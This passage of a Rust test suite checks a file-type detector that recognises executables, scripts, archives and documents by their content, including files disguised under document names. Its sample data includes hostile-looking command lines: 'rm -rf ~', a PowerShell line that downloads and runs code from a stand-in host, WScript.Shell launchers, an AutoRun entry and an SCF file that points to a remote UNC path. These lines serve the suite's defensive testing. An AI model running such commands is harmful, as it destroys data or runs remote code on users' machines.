use std::{collections::BTreeSet, fs, path::Path, process::Command};

use super::{
    kinds::{Sample, kinds, table_ids},
    script,
};
use crate::facts::{Class, KINDS, Kind};

fn ids(bytes: &[u8], names: &[&str]) -> Vec<&'static str> {
    kinds(&Sample::of(bytes, names))
        .into_iter()
        .map(|kind| kind.id)
        .collect()
}

fn put(mut bytes: Vec<u8>, at: usize, what: &[u8]) -> Vec<u8> {
    if bytes.len() < at + what.len() {
        bytes.resize(at + what.len(), 0);
    }
    bytes[at..at + what.len()].copy_from_slice(what);
    bytes
}

fn dos(new: &[u8]) -> Vec<u8> {
    // Last page 0x90, 3 pages, header of 4 paragraphs, new header at 0x80.
    let header = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8\0\0\0\0\0\0\0\x40\0";
    put(
        put(put(header.to_vec(), 0x3c, &[0x80, 0, 0, 0]), 0x80, new),
        1000,
        &[0],
    )
}

/// A ZIP with these members (name, content, flags), stored.
fn zip(members: &[(&str, &[u8], u16)]) -> Vec<u8> {
    let (mut file, mut directory) = (Vec::new(), Vec::new());
    for (name, content, flags) in members {
        let at = file.len() as u32;
        let size = (content.len() as u32).to_le_bytes();
        let mut common = vec![20, 0];
        common.extend(flags.to_le_bytes());
        common.extend([0; 6]); // method, time, date
        common.extend([0; 4]); // CRC: nobody asks
        common.extend(size);
        common.extend(size);
        common.extend((name.len() as u16).to_le_bytes());
        common.extend([0, 0]);
        file.extend(b"PK\x03\x04");
        file.extend(&common);
        file.extend(name.as_bytes());
        file.extend(*content);
        directory.extend(b"PK\x01\x02\x14\0");
        directory.extend(&common);
        directory.extend([0; 10]);
        directory.extend(at.to_le_bytes());
        directory.extend(name.as_bytes());
    }
    let start = file.len() as u32;
    let count = (members.len() as u16).to_le_bytes();
    file.extend(&directory);
    file.extend(b"PK\x05\x06\0\0\0\0");
    file.extend(count);
    file.extend(count);
    file.extend((directory.len() as u32).to_le_bytes());
    file.extend(start.to_le_bytes());
    file.extend([0, 0]);
    file
}

fn zip_of(names: &[&str]) -> Vec<u8> {
    zip(&names
        .iter()
        .map(|name| (*name, &b"x"[..], 0))
        .collect::<Vec<_>>())
}

/// An OLE compound file: header, and one directory sector with a root of this class and one stream.
fn ole(class: &[u8], stream: &str) -> Vec<u8> {
    let name = |text: &str| {
        text.encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect::<Vec<u8>>()
    };
    let mut file = put(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec(), 30, &[9, 0]);
    file = put(file, 48, &[1, 0, 0, 0]); // the directory's first sector: at 1024
    file = put(file, 1024, &name("Root Entry"));
    file = put(file, 1024 + 80, class);
    file = put(file, 1024 + 128, &name(stream));
    put(file, 1535, &[0])
}

fn utf16(text: &str) -> Vec<u8> {
    [0xfeff]
        .into_iter()
        .chain(text.encode_utf16())
        .flat_map(u16::to_le_bytes)
        .collect()
}

fn tar(magic: &[u8]) -> Vec<u8> {
    let header = put(b"bao-cao.exe".to_vec(), 511, &[0]);
    let header = put(put(header, 257, magic), 148, b"        ");
    let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
    put(header, 148, format!("{sum:06o}\0 ").as_bytes())
}

fn samples() -> Vec<(&'static [&'static str], Vec<u8>, &'static [&'static str])> {
    let office = |class: u32| [&class.to_le_bytes()[..], b"\0\0\0\0\xc0\0\0\0\0\0\0\x46"].concat();
    let at = |offset: usize, bytes: &[u8]| put(vec![0; offset], offset, bytes);
    vec![
        // Programs.
        (&["pe"], dos(b"PE\0\0\x4c\x01"), &[]),
        (&["dos-ne"], dos(b"NE\x05\x0a"), &[]),
        (&["dos-le"], dos(b"LE\0\0"), &[]),
        (&["dos-mz"], dos(b"\0\0\0\0"), &["thuc-don.dat"]),
        (&["dos-mz"], b"MZ\x90\0\x03".to_vec(), &[]),
        (&["elf"], b"\x7fELF\x02\x01\x01\0".to_vec(), &[]),
        (&["mach-o"], b"\xcf\xfa\xed\xfe\x07\0\0\x01".to_vec(), &[]),
        (&["mach-o"], b"\xfe\xed\xfa\xce\0\0\0\x12".to_vec(), &[]),
        (&["mach-o"], b"\xca\xfe\xba\xbe\0\0\0\x02\x01\0\0\x07".to_vec(), &[]),
        (&["java-class"], b"\xca\xfe\xba\xbe\0\0\0\x34\0\x1d".to_vec(), &[]),
        (&["java-class"], b"\xca\xfe\xba\xbe\0\x03\0\x2d\0\x1d".to_vec(), &[]),
        (&["dex"], b"dex\n035\0abcd".to_vec(), &[]),
        (&["wasm"], b"\0asm\x01\0\0\0".to_vec(), &[]),
        (&["wasm"], b"\0asm\x0d\0\x01\0".to_vec(), &[]),
        (&["lnk"], b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46\x9b\0".to_vec(), &["a.pdf"]),
        (&["chm"], b"ITSF\x03\0\0\0\x60\0\0\0".to_vec(), &[]),
        (&["hlp"], b"\x3f\x5f\x03\0\x10\0\0\0".to_vec(), &[]),
        (&["applescript"], b"FasdUAS 1.101.10\x0e\0".to_vec(), &[]),
        (&["rpm"], b"\xed\xab\xee\xdb\x03\0".to_vec(), &[]),
        (&["deb", "ar"], b"!<arch>\ndebian-binary   1410122664  0 0 100644 4 `\n2.0\n\0".to_vec(), &[]),
        (&["jar"], zip_of(&["META-INF/", "META-INF/MANIFEST.MF", "A.class"]), &[]),
        (&["jar"], zip_of(&["A.class"]), &["tool.JAR"]),
        (&["apk"], zip_of(&["META-INF/MANIFEST.MF", "AndroidManifest.xml", "classes.dex"]), &[]),
        (&["msix"], zip_of(&["a.exe", "AppxManifest.xml", "[Content_Types].xml"]), &[]),
        (&["ipa"], zip_of(&["Payload/", "Payload/A.app/Info.plist"]), &[]),
        (&["msi"], ole(&office(0x000c_1084), "x"), &[]),
        (&["msi"], ole(&office(0x000c_1086), "x"), &[]),
        // Scripts, shortcuts and what Windows acts on.
        (&["script-sh"], b"#!/bin/sh\nrm -rf ~\n".to_vec(), &["cai-dat"]),
        (&["script-sh"], b"#!/usr/bin/env -S bash -e\n".to_vec(), &[]),
        (&["script-python"], b"#!/usr/bin/env python3\nimport os\n".to_vec(), &["a"]),
        (&["script-perl"], b"#! /usr/bin/perl -w\nuse strict;\n".to_vec(), &["a.bin"]),
        (&["script-other"], b"#!/usr/bin/ruby\nputs 1\n".to_vec(), &["a.dat"]),
        (&["script-bat"], b"@echo off\r\nstart a.exe\r\n".to_vec(), &["a.doc"]),
        (&["script-bat"], b"set x=1\r\necho off\r\ncd %~dp0\r\n".to_vec(), &["a.doc"]),
        (
            &["script-vbs"],
            b"Dim a\r\nSet a = CreateObject(\"WScript.Shell\")\r\nOn Error Resume Next\r\na.Run \"calc\"".to_vec(),
            &["hoa-don.pdf"],
        ),
        (
            &["script-js"],
            b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc.exe');".to_vec(),
            &["hoa-don.pdf"],
        ),
        (
            &["script-ps1"],
            utf16("$c = New-Object Net.WebClient\r\nIEX($c.DownloadString('http://x/a'))"),
            &["hoa-don.pdf"],
        ),
        (&["script-encoded"], b"#@~^XAAAAA==jY~W8L".to_vec(), &["a.doc"]),
        (&["script-wsf"], b"<?xml version='1.0'?><job><script language='VBScript'>x".to_vec(), &[]),
        (&["script-wsf"], b"<?XML version=\"1.0\"?><scriptlet><script language=\"JScript\">".to_vec(), &[]),
        (&["hta"], b"<html><head><HTA:APPLICATION id='a'></head>".to_vec(), &["a.html"]),
        (&["reg"], b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\a]".to_vec(), &[]),
        (&["reg"], utf16("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\a]"), &[]),
        (&["reg"], b"REGEDIT4\r\n".to_vec(), &[]),
        (&["scf"], b"[Shell]\r\nCommand=2\r\nIconFile=\\\\1.2.3.4\\a\r\n".to_vec(), &[]),
        (&["inf"], b";x\r\n[AutoRun]\r\nopen=a.exe\r\n".to_vec(), &[]),
        (&["inf"], b"[Version]\r\nSignature = \"$Windows NT$\"\r\n".to_vec(), &[]),
        (&["desktop-entry"], b"[Desktop Entry]\nType=Application\nExec=sh -c id\n".to_vec(), &[]),
        (&["url-shortcut"], b"[InternetShortcut]\r\nURL=https://daknong.gov.vn\r\n".to_vec(), &[]),
        (
            &["settingcontent"],
            b"<?xml version='1.0'?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>cmd".to_vec(),
            &[],
        ),
        (&["library-ms"], b"<?xml version='1.0'?><libraryDescription xmlns='x'>".to_vec(), &[]),
        (
            &["clickonce"],
            b"<?xml?><asmv1:assembly xmlns:asmv1='urn:schemas-microsoft-com:asm.v1'><deployment install='true'>".to_vec(),
            &[],
        ),
        (&["msc"], b"<?xml version='1.0'?><MMC_ConsoleFile ConsoleVersion='3.0'>".to_vec(), &[]),
        (&["jnlp"], b"<?xml version='1.0'?><jnlp spec='1.0+'>".to_vec(), &[]),
        // Archives.
        (&["zip"], zip_of(&["bao-cao.exe"]), &[]),
        (&["zip"], b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0".to_vec(), &[]),
        (&["rar"], b"Rar!\x1a\x07\0\xcf".to_vec(), &[]),
        (&["rar"], b"Rar!\x1a\x07\x01\0".to_vec(), &[]),
        (&["7z"], b"7z\xbc\xaf\x27\x1c\0\x04".to_vec(), &[]),
        (&["gz"], b"\x1f\x8b\x08\0\0\0\0\0".to_vec(), &[]),
        (&["bz2"], b"BZh91AY&SY\0\x01".to_vec(), &[]),
        (&["xz"], b"\xfd7zXZ\0\0\x04".to_vec(), &[]),
        (&["lzma"], b"\x5d\0\0\x80\0\xff\xff\xff\xff\xff\xff\xff\xff\0".to_vec(), &[]),
        (&["lzip"], b"LZIP\x01\x0c\0".to_vec(), &[]),
        (&["zst"], b"\x28\xb5\x2f\xfd\x04\0".to_vec(), &[]),
        (&["zst"], b"\x5a\x2a\x4d\x18\0\0\0\0".to_vec(), &[]),
        (&["lz4"], b"\x04\x22\x4d\x18\x64\0".to_vec(), &[]),
        (&["z"], b"\x1f\x9d\x90\0".to_vec(), &[]),
        (&["szdd"], b"SZDD\x88\xf0\x27\x33A\0".to_vec(), &[]),
        (&["tar"], tar(b"ustar\x0000"), &[]),
        (&["tar"], tar(b""), &[]),
        (&["cab"], b"MSCF\0\0\0\0\x2c\0".to_vec(), &[]),
        (&["arj"], b"\x60\xea\x2a\0\x1e\x0b\x01\0\x10\0\x02\0".to_vec(), &[]),
        (&["lha"], b"\x22\0-lh5-\0\0".to_vec(), &[]),
        (&["lha"], b"\x22\0-lhd-\0\0".to_vec(), &[]),
        (&["ace"], b"\0\0\x31\0\0\0\x90**ACE**\x14".to_vec(), &[]),
        (&["zoo"], at(20, b"\xdc\xa7\xc4\xfd\x22"), &[]),
        (&["cpio"], [&b"070701"[..], &[b'0'; 104], b"a.exe\0"].concat(), &[]),
        (&["cpio"], put(b"\xc7\x71".to_vec(), 20, &[6, 0, 0, 0]), &[]),
        (&["ar"], b"!<arch>\na.o/            0           0     0     644     4         `\n\0".to_vec(), &[]),
        (&["xar"], b"xar!\0\x1c\0\x01".to_vec(), &[]),
        (&["wim"], b"MSWIM\0\0\0\xd0\0".to_vec(), &[]),
        (&["uuencode"], b"begin 644 a.exe\r\nM35J0``,````$\r\n".to_vec(), &[]),
        (&["binhex"], b"(This file must be converted with BinHex 4.0)\r\n\r\n:$f".to_vec(), &[]),
        // Images of disks.
        (&["iso"], put(at(32_769, b"CD001\x01"), 36_000, &[0]), &[]),
        (&["iso"], put(at(32_769, b"BEA01\x01"), 36_000, &[0]), &[]),
        (&["vhd"], put(b"conectix\0\0\0\x02".to_vec(), 2000, &[0]), &[]),
        (&["vhd"], put(at(4096, b"conectix\0\0\0\x02"), 4607, &[0]), &[]),
        (&["vhdx"], b"vhdxfileM\0".to_vec(), &[]),
        (&["vmdk"], b"KDMV\x01\0\0\0".to_vec(), &[]),
        (&["qcow2"], b"QFI\xfb\0\0\0\x03".to_vec(), &[]),
        (&["dmg"], put(at(4096, b"koly\0\0\0\x04\0\0\x02\0"), 4607, &[0]), &[]),
        (&["hfs"], at(1024, b"H+\0\x04"), &[]),
        (&["fat"], put(put(b"\xeb\x3c\x90".to_vec(), 54, b"FAT12   "), 510, b"\x55\xaa"), &[]),
        (&["fat"], put(put(at(446, b"\x80\x01\x01\0\x07"), 458, &[1, 0, 0, 0]), 510, b"\x55\xaa"), &[]),
        // Documents.
        (&["pdf"], b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec(), &[]),
        (&["pdf"], b"\0junk\n%PDF-1.4\n".to_vec(), &[]),
        (&["docx"], zip_of(&["[Content_Types].xml", "_rels/.rels", "word/document.xml"]), &[]),
        (&["docx"], zip_of(&["_rels/.rels", "docProps/app.xml", "word/document.xml"]), &[]),
        (&["docm"], zip_of(&["[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"]), &[]),
        (&["xlsx"], zip_of(&["[Content_Types].xml", "xl/workbook.xml"]), &[]),
        (&["xlsm"], zip_of(&["[Content_Types].xml", "xl/workbook.xml", "xl/vbaProject.bin"]), &[]),
        (&["xlsb"], zip_of(&["[Content_Types].xml", "xl/workbook.bin"]), &[]),
        (&["pptx"], zip_of(&["[Content_Types].xml", "ppt/presentation.xml"]), &[]),
        (&["pptm"], zip_of(&["[Content_Types].xml", "ppt/presentation.xml", "ppt/vbaProject.bin"]), &[]),
        (&["ooxml"], zip_of(&["[Content_Types].xml", "visio/document.xml"]), &[]),
        (&["odf"], zip(&[("mimetype", b"application/vnd.oasis.opendocument.text", 0), ("content.xml", b"", 0)]), &[]),
        (&["epub"], zip(&[("mimetype", b"application/epub+zip", 0), ("META-INF/container.xml", b"", 0)]), &[]),
        (&["doc"], ole(&office(0x0002_0906), "x"), &[]),
        (&["doc"], ole(&[0; 16], "WordDocument"), &[]),
        (&["xls"], ole(&office(0x0002_0820), "x"), &[]),
        (&["ppt"], ole(b"\x10\x8d\x81\x64\x9b\x4f\xcf\x11\x86\xea\0\xaa\0\xb9\x29\xe8", "x"), &[]),
        (&["xls"], ole(&[0; 16], "x"), &["bang.xls"]),
        (&["ole"], ole(&[0; 16], "x"), &["bang.dat"]),
        (&["ole-encrypted"], ole(&[0; 16], "EncryptedPackage"), &["a.docx"]),
        (&["rtf"], b"{\\rtf1\\ansi Ch\\'e0o}".to_vec(), &[]),
        (&["html"], b"\r\n<!DOCTYPE html>\r\n<html><body>x".to_vec(), &[]),
        (&["html"], b"<p>Ch\xc3\xa0o</p>".to_vec(), &[]),
        (&["xml"], b"\xef\xbb\xbf<?xml version=\"1.0\"?><HDon>".to_vec(), &["hoa-don.xml"]),
        (&["svg"], b"<?xml version=\"1.0\"?>\n<svg xmlns=\"x\">".to_vec(), &[]),
        (&["svg"], b"<svg width=\"1\">".to_vec(), &[]),
        (
            &["onenote"],
            b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3\0".to_vec(),
            &[],
        ),
        (&["postscript"], b"%!PS-Adobe-3.0\n".to_vec(), &[]),
        (&["djvu"], b"AT&TFORM\0\0".to_vec(), &[]),
        (&["dwg"], b"AC1032\0\0\0\0\0\0".to_vec(), &[]),
        // Pictures, sound, film.
        (&["jpeg"], b"\xff\xd8\xff\xe0\0\x10JFIF".to_vec(), &[]),
        (&["png"], b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec(), &[]),
        (&["gif"], b"GIF89a\x01\0\x01\0".to_vec(), &[]),
        (&["webp"], b"RIFF\0\0\0\0WEBPVP8 ".to_vec(), &[]),
        (&["tiff"], b"II*\0\x08\0\0\0\0\0\0\0".to_vec(), &[]),
        (&["bmp"], b"BM\x36\0\0\0\0\0\0\0".to_vec(), &[]),
        (&["ico"], b"\0\0\x01\0\x01\0".to_vec(), &[]),
        (&["psd"], b"8BPS\0\x01".to_vec(), &[]),
        (&["wmf"], b"\xd7\xcd\xc6\x9a\0\0".to_vec(), &[]),
        (&["wmf"], at(40, b" EMF\0"), &[]),
        (&["audio"], b"ID3\x03\0\0\0\0".to_vec(), &[]),
        (&["audio"], b"RIFF\0\0\0\0WAVEfmt ".to_vec(), &[]),
        (&["video"], b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom".to_vec(), &[]),
        (&["swf"], b"FWS\x06\0\0\0\0".to_vec(), &[]),
        // Messages and the rest.
        (&["eml"], b"Return-Path: <a@b>\r\nReceived: from x\r\n by y\r\nSubject: z\r\n".to_vec(), &[]),
        (&["mbox"], b"From a@b.vn Fri Oct 02 08:00:00 2026\nSubject: x\n".to_vec(), &[]),
        (&["msg"], ole(&office(0x0002_0d0b), "x"), &[]),
        (&["tnef"], b"\x78\x9f\x3e\x22\x01\0".to_vec(), &[]),
        (&["p7m"], b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03\xa0".to_vec(), &["smime.p7m"]),
        (&["p7m"], b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0".to_vec(), &["smime.p7m"]),
        (&["p7s"], b"\x30\x82\x04\0\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0".to_vec(), &["a.p7s"]),
        (&["pgp"], b"-----BEGIN PGP MESSAGE-----\r\n".to_vec(), &[]),
        (&["pgp-signature"], b"-----BEGIN PGP SIGNATURE-----\r\n".to_vec(), &[]),
        (&["ics"], b"BEGIN:VCALENDAR\r\nVERSION:2.0".to_vec(), &[]),
        (&["vcard"], b"BEGIN:VCARD\r\nFN:x".to_vec(), &[]),
        (&["font"], b"\0\x01\0\0\0\x12".to_vec(), &[]),
        (&["sqlite"], b"SQLite format 3\0\x10".to_vec(), &[]),
        (&["access"], b"\0\x01\0\0Standard Jet DB\0".to_vec(), &["ns.mdb"]),
        (&["pst"], b"!BDN\0\0".to_vec(), &[]),
        (&["text"], "Kính gửi Sở Thông tin và Truyền thông".as_bytes().to_vec(), &[]),
        (&["text"], utf16("Kính gửi Sở Thông tin và Truyền thông"), &[]),
        (&["text"], b"K\xddnh g\xf6i S\xeb Th\xabng tin".to_vec(), &[]), // TCVN3
        // Nothing that anybody knows.
        (&[], b"\x01\x02\x03\x04\x05\x06".to_vec(), &["a.dat"]),
        (&[], Vec::new(), &["a.exe"]),
    ]
}

#[test]
fn each_kind_is_found_by_its_content() {
    let mut found = BTreeSet::new();
    for (expected, bytes, names) in samples() {
        assert_eq!(
            ids(&bytes, names),
            expected,
            "{:02x?} {names:?}",
            &bytes[..bytes.len().min(24)]
        );
        found.extend(expected.iter().copied());
    }
    // No kind without a sample, but those whose sign is infer's own matter.
    let inferred = ["heif", "avif", "jxl", "jp2"];
    for kind in KINDS {
        assert!(
            found.contains(kind.id) || inferred.contains(&kind.id),
            "{} has no sample",
            kind.id
        );
    }
}

#[test]
fn every_id_of_the_tables_is_a_kind_and_stands_once() {
    for id in table_ids().chain(script::table_ids()) {
        assert!(Kind::by_id(id).is_some(), "{id}");
    }
    let all: BTreeSet<_> = KINDS.iter().map(|kind| kind.id).collect();
    assert_eq!(all.len(), KINDS.len());
    assert!(!script::table_ids().any(|id| Kind::by_id(id).unwrap().class != Class::Script));
}

#[test]
fn a_polyglot_is_reported_as_both() {
    let archive = zip_of(&["a.exe"]);
    let jar = zip_of(&["META-INF/MANIFEST.MF", "A.class"]);
    let behind = |head: &[u8], tail: &[u8]| [head, tail].concat();
    assert_eq!(ids(&behind(&dos(b"PE\0\0"), &archive), &[]), ["pe", "zip"]);
    assert_eq!(
        ids(&behind(&dos(b"PE\0\0"), &jar), &["a.pdf"]),
        ["pe", "jar"]
    );
    assert_eq!(
        ids(&behind(b"%PDF-1.4\n\0\0", &archive), &["a.pdf"]),
        ["zip", "pdf"]
    );
    assert_eq!(
        ids(&behind(b"GIF89a\0\0\0", &jar), &["a.gif"]),
        ["jar", "gif"]
    );
    assert_eq!(ids(&behind(&dos(b"\0\0"), b"%PDF-1.4\n"), &[])[0], "dos-mz");
    let tail = put(b"MZ\x90\0\x03\0\0\0\x04\0\0\0".to_vec(), 100, b"%PDF-1.4\n");
    assert_eq!(ids(&tail, &["a.pdf"]), ["dos-mz", "pdf"]);
    let iso = put(dos(b"PE\0\0"), 32_769, b"CD001");
    assert_eq!(ids(&iso, &[]), ["pe", "iso"]);
    // A document that is a Java archive as well.
    let both = zip_of(&[
        "META-INF/MANIFEST.MF",
        "[Content_Types].xml",
        "word/document.xml",
    ]);
    assert_eq!(ids(&both, &["a.docx"]), ["jar", "docx"]);
    // The words of an end record inside a file are no archive: it must end where the file ends.
    assert_eq!(
        ids(&behind(&archive, b"more\0")[30..], &[]),
        Vec::<&str>::new()
    );
}

#[test]
fn text_that_begins_like_a_program_is_text() {
    for text in [
        "MZ001234;Nguyễn Văn A;Gia Nghĩa\r\n".repeat(40),
        "MZ".to_owned(),
        "BCTC quý III".to_owned(),
        "ITSF là gì? Liên đoàn bi lắc".to_owned(),
        "070701 là ngày 7 tháng 7".to_owned(),
        "dex\n035 là phiên bản".to_owned(),
        "xar! Rar! LZIP".to_owned(),
        "FWS báo cáo".to_owned(),
        "Tệp PDF bắt đầu bằng %PDF-1.4".to_owned(),
        "- -lh5- là cách nén".to_owned(),
        "**ACE** conectix koly".to_owned(),
        "PK là hai chữ đầu của ZIP".to_owned(),
        "L là chữ thứ 14".to_owned(),
        "Subject: là tiêu đề thư\r\nKhông phải thư".to_owned(),
        "begin 2026 với kế hoạch".to_owned(),
        "From now on: ok".to_owned(),
        "; ghi chú\r\n[version] 1".to_owned(),
    ] {
        assert_eq!(ids(text.as_bytes(), &["ghi-chu"]), ["text"], "{text:?}");
    }
    // A drawing or a table of bytes that begins with the two letters, whose header makes no sense.
    let drawing = put(b"MZ\xff\xff\0\0\0\0\0\0".to_vec(), 2000, &[1]);
    assert_eq!(ids(&drawing, &["ban-ve.dat"]), Vec::<&str>::new());
}

#[test]
fn source_text_in_a_letter_is_no_script() {
    let quoted = [
        "#!/bin/sh\nrm -rf /tmp/x\n",
        "@echo off\r\nstart setup.exe\r\n",
        "Set a = CreateObject(\"WScript.Shell\")\r\nOn Error Resume Next\r\n",
        "var s = new ActiveXObject('WScript.Shell'); eval(s);",
        "IEX(New-Object Net.WebClient).DownloadString('http://x/a')",
        "Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\a]",
        "[AutoRun]\r\nopen=a.exe\r\n",
        "#@~^XAAAAA==",
    ];
    for text in quoted {
        let body = Sample {
            body: true,
            ..Sample::of(text.as_bytes(), &[])
        };
        let found: Vec<_> = kinds(&body).iter().map(|kind| kind.id).collect();
        assert_eq!(found, ["text"], "as the text of a letter: {text}");
        assert_eq!(
            ids(text.as_bytes(), &["ghi-chu.txt"]),
            ["text"],
            "as notes: {text}"
        );
        assert_eq!(
            ids(text.as_bytes(), &["va-loi.patch"]),
            ["text"],
            "as a patch: {text}"
        );
        let bare = kinds(&Sample::of(text.as_bytes(), &[]));
        assert_eq!(
            bare[0].class,
            Class::Script,
            "as a file without a name: {text}"
        );
        let disguised = kinds(&Sample::of(text.as_bytes(), &["bao-cao.pdf"]));
        assert_eq!(disguised[0].class, Class::Script, "as a.pdf: {text}");
    }
    // Words of a language without weight are text even in a file.
    for text in [
        "Hướng dẫn: mở cmd, gõ powershell.exe rồi Enter. Nếu lỗi, xem %TEMP%.",
        "Hàm eval( trong JavaScript nguy hiểm.",
        "var x = 1; function(y) { return y }",
        "Người dùng gọi CreateObject( để tạo đối tượng.",
        "# Tiêu đề\n\nDim ánh sáng",
        "#!hashtag của tỉnh",
        "if not exist thì tạo mới",
    ] {
        assert_eq!(ids(text.as_bytes(), &["huong-dan"]), ["text"], "{text}");
    }
    // A page with a script is a page.
    let page = "<html><script>var a = new ActiveXObject('x'); eval(a)</script></html>";
    assert_eq!(ids(page.as_bytes(), &["a.html"]), ["html"]);
    // An HTA is run by its content only as a file; in a letter its tag is a tag.
    let hta = b"<html><hta:application></html>";
    let body = Sample {
        body: true,
        ..Sample::of(hta, &[])
    };
    assert_eq!(kinds(&body)[0].id, "html");
}

#[test]
fn what_lies_outside_the_head_is_read_where_a_reader_is_given() {
    let far = put(
        put(dos(b"x"), 0x3c, &9000u32.to_le_bytes()),
        9000,
        b"PE\0\0",
    );
    let far = put(far, 20_000, &[0]);
    let iso = put(put(vec![1; 40_000], 32_769, b"CD001"), 60_000, &[0]);
    let fixed = put(put(vec![1; 60_000], 59_488, b"conectix"), 59_999, &[1]);
    let compound = {
        let file = put(ole(&[0; 16], "x"), 48, &[60, 0, 0, 0]);
        let directory = ole(b"\x84\x10\x0c\0\0\0\0\0\xc0\0\0\0\0\0\0\x46", "x")[1024..].to_vec();
        put(put(file, 61 * 512, &directory), 40_000, &[0])
    };
    let documents = {
        let mut members = vec![
            ("[Content_Types].xml", &b"x"[..], 8),
            ("word/document.xml", b"x", 8),
        ];
        let long = vec![b'x'; 9000];
        members.insert(1, ("docProps/thumbnail.jpeg", &long, 0));
        zip(&members)
    };
    for (bytes, expected, without) in [
        (far, "pe", Some("dos-mz")),
        (iso, "iso", None),
        (fixed, "vhd", Some("vhd")),
        (compound, "msi", Some("ole")),
        (documents, "docx", Some("docx")),
    ] {
        let read = |at: u64, len: usize| {
            bytes
                .get(at as usize..at as usize + len)
                .map(<[u8]>::to_vec)
        };
        let cut = Sample {
            head: &bytes[..4096],
            tail: &bytes[bytes.len() - 1024..],
            ..Sample::of(&bytes, &[])
        };
        assert_eq!(kinds(&cut).first().map(|kind| kind.id), without);
        let with_reader = kinds(&Sample {
            reader: Some(&read),
            ..cut
        });
        assert_eq!(with_reader.first().map(|kind| kind.id), Some(expected));
    }
}

#[test]
fn no_length_of_head_and_no_byte_makes_it_fail() {
    let mut state = 7u32;
    let mut next = move || {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (state >> 8) as usize
    };
    for (expected, bytes, names) in samples() {
        for length in 0..bytes.len().min(65) {
            let cut = &bytes[..length];
            let found = ids(cut, names);
            assert!(length > 0 || found.is_empty());
            // The size may tell of more than the head shows, and lie.
            for size in [0, 1, length as u64, bytes.len() as u64, u64::MAX] {
                kinds(&Sample {
                    size,
                    ..Sample::of(cut, names)
                });
                kinds(&Sample {
                    size,
                    head: cut,
                    tail: &bytes,
                    ..Sample::of(&bytes, names)
                });
            }
        }
        for _ in 0..60 {
            let mut broken = bytes.clone();
            for _ in 0..1 + next() % 6 {
                let length = broken.len();
                if length == 0 {
                    break;
                }
                match next() % 4 {
                    0 => broken[next() % length] ^= 1 << (next() % 8),
                    1 => broken[next() % length.min(64)] = [0, 0xff, 0x7f, 0x80][next() % 4],
                    2 => broken.truncate(next() % length + 1),
                    _ => {
                        let at = next() % length;
                        broken.splice(at..at, [0xff; 4]);
                    }
                }
            }
            let found = kinds(&Sample::of(&broken, names));
            assert!(found.len() <= 8, "{expected:?} became {found:?}");
        }
    }
}

#[test]
fn real_programs_are_found() {
    let own = fs::read(std::env::current_exe().expect("a path")).expect("this test");
    assert_eq!(ids(&own, &["bao-cao.pdf"]), ["elf"]);
    assert_eq!(ids(&fs::read("/bin/sh").expect("a shell"), &[]), ["elf"]);
    // PyPI's launchers are the Windows programs that most machines have.
    let list = Command::new("find")
        .args(["/usr/lib/python3", "/usr/share", "/root/.pyenv/versions"])
        .args(["-name", "t64.exe", "-print", "-quit"])
        .output()
        .expect("find");
    let path = String::from_utf8_lossy(&list.stdout).trim().to_owned();
    if let Some(path) = path.lines().next() {
        assert_eq!(
            ids(&fs::read(path).expect("a launcher"), &["a.pdf"]),
            ["pe"]
        );
    }
}

/// The samples beside the checkout (`../shared/corpus-seed`), where they are.
#[test]
fn samples_of_others_are_known_by_their_content() {
    let own = Path::new(env!("CARGO_MANIFEST_DIR"));
    let folders = own
        .ancestors()
        .map(|folder| folder.join("shared/corpus-seed/filetypes"));
    let Some(folder) = { folders }.find(|folder| folder.is_dir()) else {
        return;
    };
    let (mut seen, mut missed) = (0, Vec::new());
    for group in fs::read_dir(folder)
        .expect("a folder")
        .map(|entry| entry.expect("entry").path())
    {
        let manifest = fs::read_to_string(group.join("MANIFEST.tsv")).expect("a manifest");
        for line in manifest.lines().skip(1) {
            let fields: Vec<&str> = line.split('\t').collect();
            let (file, what, facts) = (fields[0], fields[3], fields[4]);
            let Some(expected) = expected(file, what, facts) else {
                continue;
            };
            let bytes = fs::read(group.join(file)).expect("a sample");
            // As the spool gives it: first 4 KiB, last 1 KiB, the rest on demand; and without a name.
            let read = |at: u64, len: usize| {
                bytes
                    .get(at as usize..at as usize + len)
                    .map(<[u8]>::to_vec)
            };
            let sample = Sample {
                head: &bytes[..bytes.len().min(4096)],
                tail: &bytes[bytes.len().saturating_sub(1024)..],
                reader: Some(&read),
                ..Sample::of(&bytes, &[])
            };
            let found: Vec<_> = kinds(&sample).iter().map(|kind| kind.id).collect();
            seen += 1;
            if found != expected {
                missed.push(format!(
                    "{file}: {found:?}, not {expected:?} ({what}; {facts})"
                ));
            }
        }
    }
    assert!(seen >= 140, "only {seen} samples");
    assert!(
        missed.is_empty(),
        "{} of {seen} missed:\n{}",
        missed.len(),
        missed.join("\n")
    );
}

/// What a line of a manifest says that the sample is.
fn expected(file: &str, what: &str, facts: &str) -> Option<&'static [&'static str]> {
    let by_file: &[(&str, &[&str])] = &[
        ("clam.exe.html", &["html"]),
        ("clam.exe.mbox.base64", &["mbox"]),
        ("clam.mail", &["eml"]),
        ("clam.newc.cpio", &["cpio"]),
        ("clam.tnef", &["tnef"]),
        ("fixture.lzh", &["lha"]),
        ("fixture.wasm", &["wasm"]),
        ("test_read_format_lha_lh6.lzh", &["lha"]),
